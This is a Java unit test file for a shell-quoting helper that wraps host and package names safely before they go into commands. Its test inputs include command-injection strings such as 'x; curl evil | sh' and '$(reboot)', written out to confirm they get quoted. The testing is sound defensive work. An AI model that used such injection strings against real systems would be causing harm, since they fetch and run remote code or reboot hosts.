package io.oakum.core.why;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A host may be called, and may call its packages, as it likes. */
class InCommandTest {
    @ParameterizedTest
    @ValueSource(
            strings = {"web-1.example", "libstdc++6", "getty@tty1.service", "dev-sda\\x2d1.device", "1:2.3~rc1", "h-1"})
    void usual_names_stay_readable(String name) {
        assertThat(InCommand.word(name)).isEqualTo(name);
    }

    @Test
    void what_a_shell_would_read_as_more_than_a_word_is_quoted() {
        assertThat(InCommand.word("x; curl evil | sh")).isEqualTo("'x; curl evil | sh'");
        assertThat(InCommand.word("$(reboot)")).isEqualTo("'$(reboot)'");
        assertThat(InCommand.word("a'b; reboot '")).isEqualTo("'a'\\''b; reboot '\\'''");
        assertThat(InCommand.words(List.of("nginx", "a b"))).isEqualTo("nginx 'a b'");
    }

    @Test
    void what_a_program_would_read_as_an_option_is_not_shown() {
        assertThat(InCommand.word("--yes")).isEqualTo("NAME");
        assertThat(InCommand.word("")).isEqualTo("NAME");
    }
}
